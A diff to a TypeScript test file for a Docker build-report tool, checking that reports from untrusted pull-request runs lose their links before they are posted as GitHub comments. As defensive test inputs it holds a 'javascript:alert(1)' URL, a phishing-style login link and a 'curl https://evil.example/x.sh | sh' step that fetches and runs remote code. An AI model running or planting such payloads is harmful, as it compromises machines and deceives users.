@@ -1,3 +1,4 @@
+import { execFileSync } from 'node:child_process';
 import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import path from 'node:path';
@@ -6,12 +7,13 @@ import {
   artifactFromUntrusted,
   MAX_ARTIFACT_BYTES,
   readCommentArtifact,
+  relayedReports,
   writeCommentArtifact,
   type CommentArtifact,
 } from '../../src/report/artifact.js';
 import { compareReports, evaluateGates } from '../../src/report/compare.js';
 import { COMMENT_MAX_LENGTH, renderReport } from '../../src/report/render.js';
-import { reportFromUntrusted } from '../../src/report/untrusted.js';
+import { reportFromUntrusted, unlinked } from '../../src/report/untrusted.js';
 import { baseReport, mainHistory, pullRequestReport } from './sample-reports.js';
 
 const artifact = (): CommentArtifact => ({
@@ -34,10 +36,17 @@ describe('comment artifact', () => {
     await writeCommentArtifact(dir, artifact(), '# rendered\n');
     const read = await readCommentArtifact(dir);
     expect(read.report.git.pullRequest).toBeUndefined();
-    expect({ ...read.report, git: { ...read.report.git, pullRequest: 42 } }).toEqual(
-      JSON.parse(JSON.stringify(pullRequestReport())),
+    // As written, but for the Dockerfile link (the relay makes its own) and the links in its text.
+    const expected = JSON.parse(JSON.stringify(pullRequestReport()), (_, value: unknown) =>
+      typeof value === 'string' ? unlinked(value) : value,
     );
-    expect(read.base).toEqual(JSON.parse(JSON.stringify(baseReport())));
+    delete expected.dockerfile.url;
+    expect({ ...read.report, git: { ...read.report.git, pullRequest: 42 } }).toEqual(expected);
+    const expectedBase = JSON.parse(JSON.stringify(baseReport()), (_, value: unknown) =>
+      typeof value === 'string' ? unlinked(value) : value,
+    );
+    delete expectedBase.dockerfile.url;
+    expect(read.base).toEqual(expectedBase);
     expect(read.trend?.points).toEqual(mainHistory());
     expect(read.gates).toEqual({ sizeBudget: undefined, maxSizeIncrease: { percent: 5 } });
     expect(read.gateOverride).toBe('size-increase-ok');
@@ -97,9 +106,69 @@ describe('comment artifact', () => {
     expect(body.length).toBeLessThan(65_536);
   });
 
-  it('keeps only http(s) Dockerfile links', () => {
+  it('keeps no Dockerfile link from the file; the relay links the commit GitHub names', () => {
     const value = JSON.parse(JSON.stringify(pullRequestReport()));
-    value.dockerfile.url = 'javascript:alert(1)';
-    expect(reportFromUntrusted(value).dockerfile).toEqual({ path: 'Dockerfile' });
+    for (const url of ['javascript:alert(1)', 'https://evil.example/Dockerfile']) {
+      value.dockerfile.url = url;
+      expect(reportFromUntrusted(value).dockerfile).toEqual({ path: 'Dockerfile' });
+    }
+    const { report } = relayedReports({ report: reportFromUntrusted(value), base: undefined }, 12, {
+      serverUrl: 'https://github.com',
+      headRepository: 'mallory/app',
+      headSha: 'f'.repeat(40),
+    });
+    expect(report.git.pullRequest).toBe(12);
+    expect(report.dockerfile).toEqual({
+      path: 'Dockerfile',
+      url: `https://github.com/mallory/app/blob/${'f'.repeat(40)}/Dockerfile`,
+    });
+  });
+
+  it('posts no link the pull request run chose: bare addresses and Markdown links stay text', () => {
+    const value = JSON.parse(JSON.stringify({ schema: 'docker-fast-build/pr-report@1', ...artifact() }));
+    value.report.build.steps[0].name = 'RUN curl https://evil.example/x.sh | sh # see www.evil.example';
+    value.report.warnings = ['[Approve here](https://evil.example/login) or <a href="https://evil.example">'];
+    value.report.advice[0].message = 'ftp://evil.example and HTTPS://EVIL.EXAMPLE';
+    const read = artifactFromUntrusted(value);
+    const body = renderReport(read.report, {
+      base: read.base,
+      comparison: compareReports(read.report, read.base),
+      gateFailures: [],
+      marker: '<!-- m -->',
+      untrustedRun: 'run 1 of “https://evil.example”',
+    });
+    expect(body).not.toMatch(/[a-z]+:\/\/evil|www\.evil|\]\(|<a href="https:\/\/evil/i);
+    // The text itself is still there to read.
+    expect(body).toContain('evil.example/login');
+  });
+
+  it('says in the comment what only the untrusted run vouches for, before its gate verdict', () => {
+    const read = artifactFromUntrusted(
+      JSON.parse(JSON.stringify({ schema: 'docker-fast-build/pr-report@1', ...artifact() })),
+    );
+    const body = renderReport(read.report, {
+      base: read.base,
+      comparison: compareReports(read.report, read.base),
+      gateFailures: ['The image grew by 40.0 MB against the base branch.'],
+      marker: '<!-- m -->',
+      untrustedRun: 'the pull request’s run 4242 of “ci” (mallory/app at f0f0f0f)',
+    });
+    const note = body.indexOf('> [!NOTE]');
+    expect(note).toBeGreaterThan(0);
+    expect(note).toBeLessThan(body.indexOf('The image grew'));
+    expect(body).toContain('the size-gate verdict — is as that run reported it, unchecked');
+    expect(body.split('\n')[0]).toBe('<!-- m -->');
+  });
+
+  it('refuses a FIFO at once instead of waiting for a writer forever', async () => {
+    execFileSync('mkfifo', [path.join(dir, 'pr-report.json')]);
+    const outcome = await Promise.race([
+      readCommentArtifact(dir).then(
+        () => 'read',
+        (error: Error) => error.message,
+      ),
+      new Promise((resolve) => setTimeout(() => resolve('hung'), 3000).unref()),
+    ]);
+    expect(outcome).toMatch(/expected a regular file/);
   });
 });
